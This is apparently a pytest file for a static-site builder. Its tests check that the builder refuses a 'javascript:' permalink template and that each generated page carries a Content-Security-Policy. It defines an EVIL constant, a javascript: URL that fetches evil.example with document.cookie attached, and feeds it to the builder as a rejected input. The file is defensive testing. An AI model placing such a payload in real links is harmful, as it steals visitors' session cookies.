"""No page links to a script: review r78 F5.

A ``[cite] permalink`` of ``javascript:...`` became ``<a class="permalink" href=
"javascript:...">`` on every run page, and no page had a Content-Security-Policy. Now
``site build`` refuses such a template (from ``--permalink`` or ``kistore.toml``, with
``cite``'s message: tests/cite/test_permalink_web_link.py), every ``href`` is the site's own
relative link, an ``https:``/``http:`` permalink or a ``data:`` download, and every page
carries the policy (the browser proves it holds: tests/site/test_browser.py).
"""

from __future__ import annotations

import subprocess
from html.parser import HTMLParser
from pathlib import Path

from kistore.core.settings import LINK_FIX
from kistore.site.render import CSP

from .conftest import build
from .demo import PERMALINK

EVIL = "javascript:fetch(`//evil.example/`+document.cookie)//{commit}/{path}"


class _Page(HTMLParser):
    """The CSP meta tags of a page, where they are, and every ``<a href>``."""

    def __init__(self) -> None:
        super().__init__()
        self.policies: list[tuple[str | None, int]] = []  # (content, tags before it)
        self.links: list[dict[str, str | None]] = []
        self.tags = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "meta" and (found.get("http-equiv") or "").lower() == \
                "content-security-policy":
            self.policies.append((found.get("content"), self.tags))
        if tag == "a" and "href" in found:
            self.links.append(found)
        self.tags += 1


def parsed(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text())
    return page


def test_every_page_carries_the_policy_before_anything_it_loads(demo_site):
    pages = sorted(demo_site.rglob("index.html"))
    assert len(pages) == 52
    for path in pages:
        page = parsed(path)
        # <html>, <head>, <meta charset>, then the policy: before site.css and site.js
        assert page.policies == [(CSP, 3)], path
    assert CSP == ("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; "
                   "object-src 'none'; base-uri 'none'; form-action 'none'")


def test_every_href_is_relative_a_web_permalink_or_a_data_download(demo_site):
    permalinks = 0
    for path in sorted(demo_site.rglob("index.html")):
        for link in parsed(path).links:
            href = link["href"] or ""
            if href.startswith("data:"):
                assert "download" in link, (path, href[:40])
            elif ":" in href.split("/", 1)[0]:
                assert href.startswith(PERMALINK.split("{")[0]), (path, href)
                assert link.get("class") == "permalink"
                permalinks += 1
    assert permalinks == len(list((demo_site / "runs").iterdir())) == 14  # one a run page


def test_site_build_refuses_a_javascript_permalink_option(runner, fresh_demo, tmp_path):
    out = tmp_path / "site"
    result = build(runner, fresh_demo, out, "--permalink", EVIL)
    assert (result.exit_code, result.output) == (
        1, f"error: --permalink: [cite] permalink {EVIL!r} does not make a web link: it has "
        f"the scheme 'javascript:', not https: or http:; {LINK_FIX}\n")
    assert not out.exists()
    result = build(runner, fresh_demo, out, "--permalink", " https://x/{commit}/{path}")
    assert result.exit_code == 1 and "U+0020 (whitespace or a control character)" in \
        result.output
    assert not out.exists()


def test_site_build_refuses_a_javascript_permalink_in_kistore_toml(runner, fresh_demo,
                                                                   tmp_path):
    # review r78 F5's reproduction: every run page got a javascript: link
    settings = fresh_demo.root / "kistore.toml"
    settings.write_text(settings.read_text().replace(PERMALINK, EVIL))
    subprocess.run(["git", "commit", "-qam", "cite: permalink", "--no-verify"],
                   cwd=fresh_demo.root, check=True)
    out = tmp_path / "site"
    result = build(runner, fresh_demo, out)
    assert (result.exit_code, result.output) == (
        1, f"error: kistore.toml: [cite] permalink {EVIL!r} does not make a web link: it has "
        f"the scheme 'javascript:', not https: or http:; {LINK_FIX}\n")
    assert not out.exists()
